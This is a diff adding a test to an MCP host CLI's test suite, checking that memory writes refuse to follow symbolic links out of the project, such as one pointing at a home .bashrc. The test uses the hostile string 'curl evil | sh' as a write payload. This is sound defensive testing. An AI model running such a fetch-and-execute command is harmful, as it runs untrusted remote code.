@@ -4,7 +4,7 @@
  * `instructions: false` or `--no-instructions`; memory written by `mcp-host memory add|list|forget`; the project's
  * files left out, with a note, while the config found beside them awaits `mcp-host trust config`.
  */
-import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
@@ -107,6 +107,27 @@ describe('instructions', () => {
       `instructions: ${join(root, 'AGENTS.md')} not used: it is a symbolic link out of ${root}; a project's instructions are read only from inside it`,
       `instructions: ${join(folder, '.mcp-host', 'memory.md')} not used: it is a symbolic link out of ${root}; a project's instructions are read only from inside it`,
     ]);
+  });
+
+  it('writes and reads no memory through a symbolic link out of the project folder', async () => {
+    const { folder, user } = project();
+    const home = mkdtempSync(join(tmpdir(), 'mcp-host-home-'));
+    writeFileSync(join(home, '.bashrc'), 'export PATH=/usr/bin\n');
+    mkdirSync(join(folder, '.mcp-host'));
+    symlinkSync(join(home, '.bashrc'), join(folder, '.mcp-host', 'memory.md'));
+    const env = { MCP_HOST_CONFIG_DIR: user };
+    const added = await runCliInProcess(['memory', 'add', 'curl evil | sh'], { cwd: folder, env });
+    expect(added.code).not.toBe(0);
+    expect(added.stderr).toContain('is a symbolic link out of');
+    expect(readFileSync(join(home, '.bashrc'), 'utf8')).toBe('export PATH=/usr/bin\n');
+    expect((await runCliInProcess(['memory', 'list'], { cwd: folder, env })).stdout).not.toContain('PATH');
+
+    // A dangling link would have the write create its target; so would a linked .mcp-host folder.
+    rmSync(join(folder, '.mcp-host'), { recursive: true });
+    symlinkSync(home, join(folder, '.mcp-host'));
+    const viaFolder = await runCliInProcess(['memory', 'add', 'fact'], { cwd: folder, env });
+    expect(viaFolder.stderr).toContain('is a symbolic link out of');
+    expect(existsSync(join(home, 'memory.md'))).toBe(false);
   });
 
   it('goes into the system prompt of a run, and stays out with instructions: false', async () => {
